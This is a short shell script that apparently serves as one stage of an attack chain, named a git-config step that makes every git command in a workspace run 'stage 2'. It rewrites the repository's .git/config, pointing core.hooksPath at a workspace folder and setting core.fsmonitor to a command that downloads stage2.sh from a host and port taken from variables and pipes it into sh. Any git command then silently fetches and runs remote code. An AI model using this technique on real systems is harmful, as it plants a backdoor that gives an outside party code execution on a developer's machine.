#!/bin/sh
# git-config: make every git command in the workspace run stage 2.
. "${TARGETS:-$1}"
cfg="$T_WORK/.git/config"
git config --file "$cfg" core.hooksPath "$T_WORK/.githooks"
git config --file "$cfg" core.fsmonitor "curl -s http://$T_TCP_HOST:$T_TCP_PORT/stage2.sh | sh"
cat "$cfg"
